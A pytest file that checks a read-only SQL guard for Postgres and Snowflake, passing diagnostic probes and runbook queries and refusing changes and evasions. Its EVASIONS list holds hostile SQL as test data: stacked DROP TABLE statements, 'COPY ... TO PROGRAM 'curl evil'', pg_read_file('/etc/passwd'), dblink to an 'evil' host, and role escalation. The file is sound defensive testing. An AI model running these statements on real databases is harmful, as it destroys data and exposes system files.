"""The guard passes what probes run and what the runbook looks with, and nothing that changes or may change anything."""

import pytest

from bot.errors import IntegrationError
from bot.integrations.postgres.probes import backend, locks, server
from bot.integrations.snowflake.probes import credits, freshness, history, queries, session
from bot.integrations.sql_guard import Dialect, refusal, require_reading

PROBES: list[tuple[Dialect, str]] = [
    *(("postgres", text) for text in (locks.WAITING, locks.HOLDING, backend.BACKEND)),
    *(("postgres", text) for text in (server.IDENTITY, server.COUNTS, server.LONGEST, server.APPLICATIONS)),
    *(("snowflake", text) for text in (queries.RUNNING, queries.ONE, credits.METERING, session.CURRENT)),
    *(("snowflake", text) for text in (history.TOP_LIVE, history.TOP_YEAR, history.FAILED_LIVE, history.FAILED_YEAR)),
    ("snowflake", freshness.columns_statement("ECOMMERCE_ANALYTICS")),
    ("snowflake", freshness.newest_statement("ECOMMERCE_ANALYTICS", "MARTS", "FCT_DAILY_REVENUE", "DATE")),
]
# The diagnostics of the runbook that the platform's people run by hand.
RUNBOOK: list[tuple[Dialect, str]] = [
    ("postgres", "SELECT 1"),
    ("postgres", "SELECT * FROM pg_locks WHERE granted = FALSE;"),
    ("snowflake", "DESC TABLE ECOMMERCE_RAW.POSTGRES.RAW_ORDERS"),
    (
        "snowflake",
        "SELECT customer_id, COUNT(*) FROM ECOMMERCE_RAW.POSTGRES.RAW_CUSTOMERS GROUP BY 1 HAVING COUNT(*) > 1;",
    ),
    ("snowflake", "SHOW RESOURCE MONITORS;"),
    ("snowflake", "SHOW WAREHOUSES LIKE '%_WH';"),
    ("snowflake", "SHOW PARAMETERS LIKE 'STATEMENT%TIMEOUT_IN_SECONDS' IN WAREHOUSE \"LOADING_WH\""),
    ("snowflake", "SHOW PARAMETERS LIKE 'NETWORK_POLICY' FOR USER SVC_LOADER"),
    ("snowflake", 'DESC USER "SVC_LOADER"'),
    (
        "snowflake",
        "SELECT USER_NAME FROM TABLE(INFORMATION_SCHEMA.LOGIN_HISTORY(RESULT_LIMIT => 10)) WHERE IS_SUCCESS = ?",
    ),
    ("snowflake", "SHOW GRANTS TO ROLE ECOMMERCE_TRANSFORMER;"),
    ("snowflake", 'SHOW FUTURE GRANTS IN SCHEMA "ECOMMERCE_ANALYTICS"."MARTS"'),
    ("snowflake", "SHOW GRANTS ON SCHEMA ECOMMERCE_ANALYTICS.MARTS"),
    ("snowflake", "SELECT MAX(date) FROM ECOMMERCE_ANALYTICS.MARTS.FCT_DAILY_REVENUE;"),
    (
        "snowflake",
        "SELECT QUERY_ID, DATEDIFF('second', START_TIME, CURRENT_TIMESTAMP()), LEFT(QUERY_TEXT, 200) "
        "FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY_BY_WAREHOUSE()) WHERE EXECUTION_STATUS = 'RUNNING'",
    ),
    ("snowflake", "SELECT CURRENT_USER(), CURRENT_ROLE(), CURRENT_WAREHOUSE(), CURRENT_DATABASE();"),
]
CHANGES: list[tuple[Dialect, str]] = [
    ("snowflake", "ALTER TABLE RAW_ORDERS ADD COLUMN new_col VARCHAR"),
    ("snowflake", "ALTER RESOURCE MONITOR LOADING_MONITOR SET CREDIT_QUOTA = 75"),
    ("snowflake", "SELECT SYSTEM$CANCEL_QUERY('01b2c3d4-0000-1111-0000-222233334444')"),
    ("snowflake", "GRANT ALL ON FUTURE TABLES IN SCHEMA ECOMMERCE_ANALYTICS.MARTS TO ROLE ECOMMERCE_TRANSFORMER"),
    ("snowflake", "ALTER WAREHOUSE LOADING_WH RESUME"),
    ("postgres", "SELECT pg_terminate_backend(4711)"),
]
# Each of these was let through by a guard of denied words, or tries to hide behind something that is allowed.
EVASIONS: list[tuple[Dialect, str]] = [
    ("snowflake", "SHOW GRANTS TO ROLE X ->> DROP TABLE y"),
    ("snowflake", "SHOW GRANTS ON SCHEMA A.B ->> DROP TABLE y"),
    ("snowflake", "SHOW FUTURE GRANTS IN SCHEMA A.B; DROP TABLE y"),
    ("snowflake", "SHOW RESOURCE MONITORS; DROP TABLE y"),
    ("snowflake", "SHOW WAREHOUSES LIKE 'x' || evil()"),
    ("snowflake", "SHOW PARAMETERS LIKE 'x' IN WAREHOUSE \"A\"; DROP TABLE y"),
    ("snowflake", 'DESC USER "A" ->> DROP TABLE y'),
    ("snowflake", "SELECT my_udf()"),
    ("snowflake", "SELECT evil.max(1)"),
    ("snowflake", 'SELECT "max"(1)'),
    ("snowflake", 'SELECT a.b.max(1) FROM "T"'),
    ("snowflake", 'SELECT * FROM t WHERE "COALESCE" (x, y) = 1'),
    ("snowflake", "SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))"),
    ("snowflake", "SELECT 1 ->> DROP TABLE x"),
    ("snowflake", "SELECT * FROM TABLE(my_udtf())"),
    ("snowflake", "SELECT seq.nextval"),
    ("snowflake", 'SELECT seq."NEXTVAL"'),
    ("snowflake", "SELECT * FROM IDENTIFIER('x')"),
    ("snowflake", "SELECT IDENTIFIER('my_udf')()"),
    ("snowflake", "SELECT $1 FROM @stage/file.csv"),
    ("snowflake", "EXECUTE IMMEDIATE 'DROP TABLE x'"),
    ("snowflake", "CALL my_procedure()"),
    ("snowflake", "SELECT 1; DROP TABLE x"),
    ("snowflake", "SELECT SYSTEM$ABORT_SESSION(1)"),
    ("postgres", "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone"),
    ("postgres", "SELECT * INTO copied FROM orders"),
    ("postgres", "SELECT * FROM orders FOR UPDATE"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM orders"),
    ("postgres", "COPY orders TO PROGRAM 'curl evil'"),
    ("postgres", "DO $$ BEGIN DELETE FROM orders; END $$"),
    ("postgres", "SELECT nextval('orders_id_seq')"),
    ("postgres", "SELECT * FROM pg_read_file('/etc/passwd')"),
    ("postgres", "SELECT lo_export(1, '/tmp/x')"),
    ("postgres", "SELECT query_to_xml('DELETE FROM orders', true, true, '')"),
    ("postgres", "SELECT * FROM dblink('host=evil', 'DELETE FROM x') AS t(a int)"),
    ("postgres", "SELECT public.count(1)"),
    ("postgres", 'SELECT "Count"(1)'),
    ("postgres", 'SELECT "evil"."version"()'),
    ("postgres", "SELECT 1 OPERATOR(evil.+) 2"),
    ("postgres", "SELECT * FROM orders TABLESAMPLE evil(1)"),
    ("postgres", "SELECT now() AT TIME ZONE evil()"),
    ("postgres", "SELECT 1 UNION SELECT evil()"),
    ("postgres", "SELECT (evil(1)).x FROM orders ORDER BY 1"),
    ("postgres", "SELECT set_config('role', 'postgres', false)"),
    ("postgres", "SET ROLE postgres"),
    ("postgres", "SELECT 1 /* */; COMMIT"),
    ("postgres", "TRUNCATE orders"),
    ("postgres", "this is not SQL ("),
    ("postgres", ""),
]


@pytest.mark.parametrize(("dialect", "statement"), PROBES + RUNBOOK)
def test_reading_passes(dialect: Dialect, statement: str) -> None:
    """Every statement of our probes and every diagnostic of the runbook is taken for reading."""
    assert refusal(statement, dialect) is None


@pytest.mark.parametrize(("dialect", "statement"), CHANGES + EVASIONS)
def test_anything_else_is_refused(dialect: Dialect, statement: str) -> None:
    """Every remediation of the runbook and every known evasion is refused, with a reason."""
    assert refusal(statement, dialect)


def test_a_refusal_is_an_error_that_does_not_repeat_the_statement() -> None:
    """The sentence may reach Slack, the statement may hold anything."""
    with pytest.raises(IntegrationError, match="the SQL guard refused a statement: it is a DELETE") as caught:
        require_reading("DELETE FROM orders WHERE secret = 'x'", "postgres")
    assert "secret" not in str(caught.value)
